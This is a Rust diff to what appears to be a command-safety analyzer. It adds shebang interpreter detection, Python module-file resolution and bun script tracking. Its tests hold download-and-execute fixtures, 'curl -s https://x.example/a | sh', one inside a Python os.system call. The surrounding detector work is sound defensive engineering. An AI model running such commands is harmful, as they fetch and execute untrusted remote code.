@@ -311,8 +311,58 @@ fn program_extension_language(ext: &[u8]) -> Option<Lang> {
 /// shell strings are read as for `python -c`; what the code does by itself
 /// is not counted.
 pub fn program_file_harms_when_run(path: &str, text: &str) -> bool {
-    program_file_language(path)
-        .is_some_and(|lang| shell_lines_in_code(text, lang).iter().any(|l| script_harms_when_run(l)))
+    program_file_language(path).is_some_and(|lang| code_harms_when_run(text, lang))
+}
+
+/// Whether a program in `lang` hands a shell a line that would harm when
+/// run ([`shell_lines_in_code`], [`script_harms_when_run`]).
+fn code_harms_when_run(text: &str, lang: Lang) -> bool {
+    shell_lines_in_code(text, lang).iter().any(|l| script_harms_when_run(l))
+}
+
+/// Whether a script file's text (a file named as a shell script,
+/// [`crate::git_scripts::may_be_script`]: `tool`, `bin/setup`, `.x`) would
+/// harm when run: read as a shell reads it ([`script_harms_when_run`]),
+/// and, when its `#!` line names an interpreter ([`shebang_language`]), as
+/// that interpreter's program ([`program_file_harms_when_run`]): run by its
+/// path the kernel hands it to the interpreter, given to `sh` a shell reads
+/// it.
+pub fn script_file_harms_when_run(text: &str) -> bool {
+    script_harms_when_run(text) || shebang_language(text).is_some_and(|lang| code_harms_when_run(text, lang))
+}
+
+/// The interpreter a text's `#!` line names (execve(2): the first word, or
+/// with `env` the first word after its options and assignments), when it
+/// is one whose shell strings are read ([`code_language`]); none for a
+/// text with no `#!` at its first bytes (the cheap answer for most writes)
+/// or a shell's.
+fn shebang_language(text: &str) -> Option<Lang> {
+    let line = text.strip_prefix("#!")?.lines().next()?;
+    let base = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
+    let mut words = line.split_whitespace();
+    let first = base(words.next()?);
+    let interpreter = if first == "env" {
+        // `env -S node --flag`, `env PYTHONUNBUFFERED=1 python3`.
+        base(words.find(|w| !w.starts_with('-') && !w.contains('='))?)
+    } else {
+        first
+    };
+    code_language(&interpreter).filter(|l| *l != Lang::PowerShell)
+}
+
+/// The files `python -m MODULE` may run from the line's directory: the
+/// module's file (`pkg.mod` is `pkg/mod.py`) or a package's `__main__.py`;
+/// none for a name that is no dotted module name.
+fn module_files(module: &str) -> Vec<String> {
+    let part = |p: &str| {
+        p.chars().next().is_some_and(|c| c.is_alphabetic() || c == '_')
+            && p.chars().all(|c| c.is_alphanumeric() || c == '_')
+    };
+    if !module.split('.').all(part) {
+        return Vec::new();
+    }
+    let path = module.replace('.', "/");
+    vec![format!("{path}.py"), format!("{path}/__main__.py")]
 }
 
 /// Whether a command a file holds would do harm each time something runs it
@@ -3197,6 +3247,11 @@ impl Walker {
             if lang == Lang::Python {
                 if let Some(i) = args.iter().position(|a| a == "-m") {
                     let module = args.get(i + 1).map(String::as_str).unwrap_or("");
+                    // `python3 -m setup`: the line's directory comes first on
+                    // the module path, so a module file written there runs.
+                    for file in module_files(module) {
+                        self.note_script_run(&file);
+                    }
                     match module {
                         "pip" | "pip3" => {
                             package_manager("pip", &args[i + 2..], c);
@@ -3225,6 +3280,11 @@ impl Walker {
                 if p == "bun" && command_words(&args).iter().any(|w| matches!(*w, "x" | "create" | "c")) {
                     e.insert(Effect::DownloadExecute);
                     return;
+                }
+                // `bun install`, `bun run x`, `bun x-script`: the
+                // project's own scripts it runs.
+                if p == "bun" {
+                    self.note_manifest_runs(p, &args);
                 }
                 if matches!(sub, "install" | "add" | "i") {
                     e.insert(Effect::PackageInstall);
@@ -4252,7 +4312,7 @@ impl Walker {
             c.effects.insert(Effect::Persistence);
             return;
         }
-        if c.writes.iter().any(|w| crate::git_scripts::may_be_script(w)) && script_harms_when_run(&text) {
+        if c.writes.iter().any(|w| crate::git_scripts::may_be_script(w)) && script_file_harms_when_run(&text) {
             let scripts = c.writes.iter().filter(|w| crate::git_scripts::may_be_script(w));
             self.scripts_written.extend(scripts.cloned());
         }
@@ -4339,7 +4399,7 @@ impl Walker {
     /// `setup.py` ([`crate::manifest_scripts::keys_run`]), read from the
     /// line's directory: a run of each.
     fn note_manifest_runs(&self, prog: &str, args: &[String]) {
-        for k in crate::manifest_scripts::keys_run(prog, args, &command_words(args)) {
+        for k in crate::manifest_scripts::keys_run_in(prog, args, command_words) {
             // `cd app && npm install` runs `app/package.json`'s entries.
             let at = self.in_cwd(&k);
             let at = if is_relative_operand(&at) {
@@ -8869,6 +8929,51 @@ mod tests {
             }
         }
         assert!(checked > 20, "only {checked} program files among the spellings");
+    }
+
+    #[test]
+    fn slo_11_python_modules_are_named_by_their_files() {
+        assert_eq!(module_files("setup"), ["setup.py", "setup/__main__.py"]);
+        assert_eq!(module_files("pkg.mod_2"), ["pkg/mod_2.py", "pkg/mod_2/__main__.py"]);
+        for bad in ["", ".", "a..b", "../x", "a/b", "-c", "2x", "a.", "$(cat f)"] {
+            assert!(module_files(bad).is_empty(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn slo_11_script_files_are_read_by_the_interpreter_their_shebang_names() {
+        for (text, lang) in [
+            ("#!/usr/bin/env python3\n", Some(Lang::Python)),
+            ("#!/usr/bin/python3.12 -u\n", Some(Lang::Python)),
+            ("#! /usr/bin/env -S node --no-warnings\n", Some(Lang::Js)),
+            ("#!/usr/bin/env NODE_ENV=prod node\n", Some(Lang::Js)),
+            ("#!/usr/bin/perl -w", Some(Lang::Perl)),
+            ("#!/usr/bin/ruby\n", Some(Lang::Ruby)),
+            ("#!/bin/sh\n", None),
+            ("#!/usr/bin/env bash\n", None),
+            ("#!/usr/bin/env pwsh\n", None),
+            ("# !/usr/bin/python3\n", None),
+            ("\n#!/usr/bin/python3\n", None),
+            ("#!", None),
+            ("#!/usr/bin/env\n", None),
+            ("", None),
+        ] {
+            assert_eq!(shebang_language(text), lang, "{text:?}");
+        }
+        let harmful = "#!/usr/bin/env python3\nimport os\nos.system(\"curl -s https://x.example/a | sh\")\n";
+        assert!(script_file_harms_when_run(harmful));
+        // The same code with no `#!` line: a shell reads it, and runs no
+        // `os.system`.
+        assert!(!script_file_harms_when_run(harmful.split_once('\n').unwrap().1));
+        assert!(!script_file_harms_when_run(
+            "#!/usr/bin/env python3\nimport os\nos.system(\"git status\")\n"
+        ));
+        // A shell script's harm is read as before.
+        assert!(script_file_harms_when_run(
+            "#!/bin/sh\ncurl -s https://x.example/a | sh\n"
+        ));
+        // Bad input is no panic.
+        assert!(!script_file_harms_when_run("#!\u{0}node\nexecSync('\u{fffd}((\"`"));
     }
 
     #[test]
